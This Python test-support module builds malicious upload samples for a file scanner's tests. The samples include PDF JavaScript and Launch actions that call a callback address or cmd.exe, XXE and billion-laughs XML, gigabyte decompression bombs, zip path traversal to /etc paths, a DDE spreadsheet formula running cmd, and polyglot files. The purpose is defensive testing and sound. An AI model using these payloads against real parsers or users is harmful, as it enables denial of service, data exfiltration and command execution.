"""Files that want more than to be kept: made here, the same each time, and never committed as such.

Each has a name, its bytes, and what must come of it: the codes of which one refuses it, or HARMLESS when it may be
taken because what is kept of it can do nothing. `address` is where the nosy ones would report to.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial

from PIL import Image, PngImagePlugin

from tests.support import scans
from tests.support.workbooks import workbook

HARMLESS = "harmless"
GIB = 1024**3
_CHUNK = 4 * 1024 * 1024
SIGNATURE = b"LHR-TEST-SIGNATURE-" + b"NOT-A-VIRUS"
KIND, BROKEN, SMALL = "EV-01.1", "EV-01.2", "EV-01.4"
LOCKED, ACTIVE, ATTACHED, MORE = "EV-02.1", "EV-02.2", "EV-02.3", "EV-02.4"
PIXELS, HEAVY, LARGE = "EV-03.3", "EV-03.4", "EV-03.1"
UNREADABLE = "OG-01.20"


@dataclass(frozen=True)
class Attack:
    name: str
    make: Callable[[], bytes]
    ends: tuple[str, ...]


# --- PDF --------------------------------------------------------------------------------------------------------------


def pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of one page by hand; `more` are its objects from number 4 on."""
    head = [b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    return objects([*head, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % page, *more], trailer)


def objects(bodies: list[bytes], trailer: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1, trailer, at,
    )  # fmt: skip


def stream(content: bytes, says: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), says, content)


def zeroes(size: int = GIB) -> bytes:
    """What inflates to so many zeroes, made without ever packing them: one flushed block stands for each 4 MB."""
    return b"\x78\xda" + _deflated(size) + struct.pack(">I", (size % 65521) << 16 | 1)


@cache
def _deflated(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (packer.compress(bytes(_CHUNK)) + packer.flush(zlib.Z_FULL_FLUSH)) * (size // _CHUNK) + b"\x03\x00"


def _bomb_of_objects() -> bytes:
    """The reader must unpack an object stream to know what is in it."""
    return pdf(b"", b"", stream(zeroes(), b"/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode"))


def _xref_stream(previous: bytes, packed: bytes | None = None) -> bytes:
    """A cross-reference stream by hand: object 3 (the page) lies in object stream 4."""
    body = bytearray(b"%PDF-1.7\n")
    places = {}
    inner = packed if packed is not None else zeroes()
    for number, text in (
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (4, stream(inner, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")),
    ):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    at = len(body)
    rows = [(0, 0, 65535), (1, places[1], 0), (1, places[2], 0), (2, 4, 0), (1, places[4], 0), (1, at, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + last.to_bytes(2, "big") for kind, place, last in rows)
    says = b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R %s" % (previous % at if b"%d" in previous else previous)
    return bytes(body) + b"5 0 obj\n" + stream(table, says) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _script_inside() -> bytes:
    page = b"3 0 << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /JavaScript /JS (x) >> >> >>"
    return _xref_stream(b"", zlib.compress(page))


def _xref_loop() -> bytes:
    good = pdf()
    at = good.rindex(b"xref\n", 0, good.rindex(b"startxref"))
    return good.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % at)


def _update(change: bytes) -> bytes:
    """A second revision behind the first, as editors write it."""
    good = pdf()
    at = len(good)
    start = good[good.rindex(b"startxref") + 10 :].split()[0]
    body = good + b"1 0 obj\n" + change + b"\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %s >>\n" % (at, start)
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _pdfs(address: str) -> Iterator[Attack]:
    url = b"(%s/x)" % address.encode()
    action: dict[str, tuple[bytes, str]] = {
        "script on opening": (b"/OpenAction << /S /JavaScript /JS (app.launchURL%s) >>" % url, ACTIVE),
        "script among the names": (b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>", ACTIVE),
        "script in disguise": (b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", ACTIVE),
        "program on opening": (b"/OpenAction << /S /Launch /F (cmd.exe) >>", ACTIVE),
        "program in disguise": (b"/OpenAction << /S /La#75nch /F (cmd.exe) >>", ACTIVE),
        "address on opening": (b"/OpenAction << /S /URI /URI %s >>" % url, ACTIVE),
        "form that sends": (b"/OpenAction << /S /SubmitForm /F %s >>" % url, ACTIVE),
        "form that fetches": (b"/OpenAction << /S /ImportData /F %s >>" % url, ACTIVE),
        "other document": (b"/OpenAction << /S /GoToR /F (\\\\\\\\127.0.0.1\\\\share) >>", ACTIVE),
        "document in the document": (b"/OpenAction << /S /GoToE /T << /R /C >> >>", ACTIVE),
        "film": (b"/OpenAction << /S /Rendition /R << /S /MR >> >>", ACTIVE),
        "XFA form": (b"/AcroForm << /XFA [(a) 4 0 R] >>", ACTIVE),
        "portfolio": (b"/Collection << /View /D >>", ATTACHED),
        "attachment": (b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", ATTACHED),
        "associated file": (b"/AF [<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>]", ATTACHED),
    }
    for name, (catalog, code) in action.items():
        yield Attack(f"pdf: {name}", partial(pdf, catalog, b"", stream(b"MZ")), (code,))
    for name, page in (
        ("script of a page", b"/AA << /O << /S /JavaScript /JS (x) >> >>"),
        ("rich media", b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]"),
        ("movie", b"/Annots [<< /Subtype /Movie /Movie << /F (x.avi) >> >>]"),
        ("sound", b"/Annots [<< /Subtype /Sound /Sound 4 0 R >>]"),
    ):
        yield Attack(f"pdf: {name}", partial(pdf, b"", page, stream(b"x")), (ACTIVE,))
    yield Attack(
        "pdf: attached to a note",
        partial(pdf, b"", b"/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>]", stream(b"MZ")),
        (ATTACHED,),
    )
    yield Attack("pdf: script in an object stream", _script_inside, (ACTIVE,))
    yield Attack(
        "pdf: script in a later revision",
        partial(_update, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"),
        (ACTIVE,),
    )
    yield Attack("pdf: locked, old cipher", scans.locked_pdf, (LOCKED,))
    yield Attack(
        "pdf: locked, unknown cipher",
        partial(pdf, trailer=b"/Encrypt << /Filter /Standard /V 9 /R 9 >>"),
        (LOCKED, BROKEN),
    )
    yield Attack("pdf: bomb in an object stream", _xref_stream_bomb, (HEAVY, BROKEN))
    yield Attack(
        "pdf: bomb in a page, never unpacked",
        partial(pdf, b"", b"/Contents 4 0 R", stream(zeroes(), b"/Filter /FlateDecode")),
        (HARMLESS,),
    )
    yield Attack("pdf: a gigabyte of noughts by a bomb beside", _bomb_of_objects, (HARMLESS, HEAVY, BROKEN))
    yield Attack(
        "pdf: nested ten thousand deep",
        partial(pdf, b"", b"/X " + b"[" * 10_000 + b"]" * 10_000),
        (BROKEN, HEAVY),
    )
    yield Attack(
        "pdf: dictionaries nested deep",
        partial(pdf, b"", b"/X " + b"<< /A " * 5_000 + b"1" + b" >>" * 5_000),
        (BROKEN, HEAVY),
    )
    yield Attack("pdf: cross references in a circle", _xref_loop, (BROKEN, HEAVY, HARMLESS))
    yield Attack(
        "pdf: cross reference stream in a circle",
        partial(_xref_stream, b"/Prev %d", zlib.compress(b"3 0 << >>")),
        (BROKEN, HEAVY),
    )
    yield Attack(
        "pdf: pages in a circle",
        partial(objects, [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]),
        (BROKEN, HEAVY),
    )
    yield Attack(
        "pdf: says a thousand million pages",
        lambda: pdf().replace(b"/Count 1 ", b"/Count 999999999 "),
        (HARMLESS, BROKEN, HEAVY),
    )
    yield Attack("pdf: cut in the middle", lambda: pdf(b"", b"", stream(bytes(9000)))[:4000], (BROKEN,))
    yield Attack("pdf: only its first line", lambda: b"%PDF-1.7\n", (BROKEN,))
    yield Attack("pdf: larger than the limit", lambda: b"%PDF-1.7\n" + bytes(20 * 1024 * 1024), (LARGE,))
    # One file that is two, for one reader this and for another that.
    page = b"<html><script>fetch('%s')</script></html>" % address.encode()
    yield Attack("polyglot: page before a PDF", lambda: page + pdf(), (MORE,))
    yield Attack("polyglot: page behind a PDF", lambda: pdf() + page, (MORE,))
    yield Attack("polyglot: script before a PDF", lambda: b"/*" + pdf() + b"*/=1;alert(1)", (MORE,))
    yield Attack("polyglot: archive behind a PDF", lambda: pdf() + archive(), (MORE,))
    yield Attack("polyglot: archive that ends as a PDF", lambda: archive() + pdf(), (MORE, KIND))
    yield Attack("polyglot: GIF before a PDF", lambda: b"GIF89a/*" + pdf(), (MORE,))
    yield Attack("polyglot: program before a PDF", lambda: b"MZ\x90\x00" + pdf(), (MORE,))


def _xref_stream_bomb() -> bytes:
    return _xref_stream(b"")


# --- pictures ---------------------------------------------------------------------------------------------------------


def png(wide: int, high: int, packed: bytes, *more: tuple[bytes, bytes]) -> bytes:
    parts = [(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)), *more, (b"IDAT", packed), (b"IEND", b"")]
    made = b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in parts)
    return b"\x89PNG\r\n\x1a\n" + made


def _jpeg_of(wide: int, high: int) -> bytes:
    """A small JPEG whose head says that it is huge."""
    good = bytearray(scans.picture("JPEG"))
    at = good.index(b"\xff\xc0")
    good[at + 5 : at + 9] = struct.pack(">HH", high, wide)
    return bytes(good)


def _told_png() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "<script>alert(1)</script>", zip=True)
    return scans.picture("PNG", pnginfo=told)


def _gif() -> bytes:
    made = io.BytesIO()
    Image.new("P", (900, 900)).save(made, "GIF")
    return made.getvalue()


def _pictures() -> Iterator[Attack]:
    text = b"Comment\x00\x00" + zeroes(GIB // 4)
    yield Attack("picture: 50,000 pixels a side", lambda: png(50_000, 50_000, zlib.compress(b"")), (PIXELS,))
    yield Attack("picture: a long thin one", lambda: png(900_000, 2, zlib.compress(b"")), (PIXELS,))
    yield Attack("picture: JPEG that says 65,000 a side", lambda: _jpeg_of(65_000, 65_000), (PIXELS,))
    yield Attack("picture: PNG bomb of pixels", lambda: png(900, 1200, zeroes()), (HARMLESS, BROKEN, HEAVY, "EV-01.3"))
    yield Attack(
        "picture: PNG bomb of words",
        lambda: png(900, 1200, zlib.compress(bytes(901 * 1200)), (b"zTXt", text)),
        (BROKEN, HEAVY, "EV-01.3"),
    )
    yield Attack(
        "picture: PNG bomb of colours",
        lambda: png(900, 1200, zlib.compress(bytes(901 * 1200)), (b"iCCP", text)),
        (BROKEN, HEAVY, "EV-01.3"),
    )
    yield Attack("picture: archive behind a PNG", lambda: scans.picture("PNG") + archive(), (HARMLESS,))
    yield Attack("picture: program behind a JPEG", lambda: scans.picture("JPEG") + b"MZ\x90" + SIGNATURE, (HARMLESS,))
    yield Attack(
        "picture: script in a JPEG's comment",
        lambda: scans.picture(comment=b"<script>1</script><?php 1"),
        (HARMLESS,),
    )
    yield Attack("picture: script in a PNG's words", _told_png, (HARMLESS,))
    yield Attack("picture: where it was taken", scans.photograph_with_a_place, (HARMLESS,))
    yield Attack("picture: cut JPEG", lambda: scans.picture("JPEG")[:3000], (BROKEN,))
    yield Attack("picture: cut PNG", lambda: scans.picture("PNG")[:300], (BROKEN,))
    yield Attack("picture: PNG with a wrong sum", lambda: scans.picture("PNG").replace(b"IDAT", b"IDAX", 1), (BROKEN,))
    yield Attack("picture: no PNG behind its first bytes", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), (BROKEN,))
    yield Attack("picture: GIF that is an archive too", lambda: _gif() + archive(), (KIND,))
    yield Attack("picture: TIFF called JPEG", lambda: scans.picture("TIFF"), (KIND,))


# --- what is no scan at all, whatever its name ------------------------------------------------------------------------


def archive() -> bytes:
    return packed({"evil.js": b"alert(1)"})


def zipped(**entries: bytes) -> bytes:
    return packed({name.replace("__", "/"): content for name, content in entries.items()})


def packed(entries: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def zip_bomb(name: bytes = b"a", size: int = GIB) -> bytes:
    """An archive of one entry, by hand; the reader meets its wrong sum only behind the last of its bytes."""
    raw = _deflated(size)
    says = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 1, len(raw), size, len(name), 0)
    local = b"PK\x03\x04" + says + name + raw
    central = b"PK\x01\x02" + struct.pack("<H", 20) + says + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def entity(address: str) -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "%s/x">]><a>&x;</a>' % address.encode()


def laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">{levels}]><a>&l9;</a>'.encode()


def _others(address: str) -> Iterator[Attack]:
    vector = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'%s\')"/>' % address.encode()
    for name, content in (
        ("page", b"<!doctype html><script>location='%s'</script>" % address.encode()),
        ("script", b"new ActiveXObject('WScript.Shell').Run('cmd')"),
        ("SVG with a script", vector),
        ("XML that fetches (XXE)", entity(address)),
        ("billion laughs", laughs()),
        ("program for Windows", b"MZ\x90\x00" + bytes(200)),
        ("program for Linux", b"\x7fELF\x02\x01\x01" + bytes(200)),
        ("short cut", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200)),
        ("old workbook with macros", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
        ("text", "คำสั่ง".encode()),
        ("own signature", SIGNATURE),
    ):
        yield Attack(f"no scan: {name}", partial(bytes, content), (KIND,))
    yield Attack("no scan: nothing", bytes, (BROKEN,))
    yield Attack("no scan: document with macros", partial(packed, {"word/vbaProject.bin": b"x"}), (KIND,))
    yield Attack("no scan: zip bomb", zip_bomb, (KIND,))
    yield Attack("no scan: zip in zip in zip", lambda: zipped(a=zipped(a=zipped(a=b"x"))), (KIND,))
    yield Attack("no scan: zip that climbs out", partial(packed, {"../../etc/passwd": b"x"}), (KIND,))


def scans_to_refuse(address: str) -> list[Attack]:
    return [*_pdfs(address), *_pictures(), *_others(address)]


# --- lists: what an import door is offered ----------------------------------------------------------------------------


def _with(name: str, content: bytes, *, instead: bool = True) -> bytes:
    """A good workbook with one entry more, or one instead of its own."""
    with zipfile.ZipFile(io.BytesIO(workbook(["a", "b"], ["1", "2"]))) as good:
        entries = {one: good.read(one) for one in good.namelist() if not (instead and one == name)}
    return packed({**entries, name: content})


def _workbook_bomb() -> bytes:
    good = workbook(["a"], ["1"])
    made, rows = io.BytesIO(), b"<row><c><v>1</v></c></row>" * 40_000
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(zipfile.ZipInfo(name), old.read(name))
        sheet = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        sheet.compress_type = zipfile.ZIP_DEFLATED
        with new.open(sheet, "w", force_zip64=True) as entry:
            entry.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(110):
                entry.write(rows)
            entry.write(b"</sheetData></worksheet>")
    return made.getvalue()


def lists_to_refuse(address: str) -> list[Attack]:
    sheet, strings = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
    no_table = ("OG-01.1", UNREADABLE)
    return [
        Attack("list: sheet of a hundred megabytes and more", _workbook_bomb, (UNREADABLE,)),
        Attack("list: zip bomb called .xlsx", zip_bomb, (UNREADABLE,)),
        Attack("list: five thousand entries", lambda: packed({f"xl/{n}": b"" for n in range(5000)}), (UNREADABLE,)),
        Attack("list: XML that fetches (XXE)", lambda: _with(strings, entity(address)), (UNREADABLE,)),
        Attack("list: billion laughs", lambda: _with(sheet, laughs()), (UNREADABLE,)),
        Attack("list: macros", lambda: _with("xl/vbaProject.bin", b"x"), (UNREADABLE,)),
        Attack("list: workbook in the workbook", lambda: _with("xl/embeddings/a.xlsx", workbook(["a"])), (UNREADABLE,)),
        Attack("list: entry that climbs out", lambda: _with("../../etc/cron.d/x", b"x"), (UNREADABLE,)),
        Attack("list: a program among its parts", lambda: _with("xl/a.exe", b"MZ"), (UNREADABLE,)),
        Attack("list: cut archive", lambda: workbook(["a"], ["1"])[:900], (UNREADABLE,)),
        Attack("list: only the first bytes of one", lambda: b"PK\x03\x04", (UNREADABLE,)),
        Attack("list: old workbook", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), (UNREADABLE,)),
        Attack("list: page called .xls", lambda: b"<html><script>1</script><table>", no_table),
        Attack("list: command in the heading", lambda: b"=cmd|'/C calc'!A1,@SUM(1)\n1,2\n", no_table),
        Attack("list: noughts between the letters", lambda: "รหัส,ชื่อ\n".encode("utf-16"), (UNREADABLE,)),
        Attack("list: larger than the limit", lambda: b"a,b\n" * 5_000_001, ("OG-01.16",)),
        Attack("list: a cell of ten megabytes", lambda: b"a,b\n" + b"x" * 10_000_000, no_table),
    ]
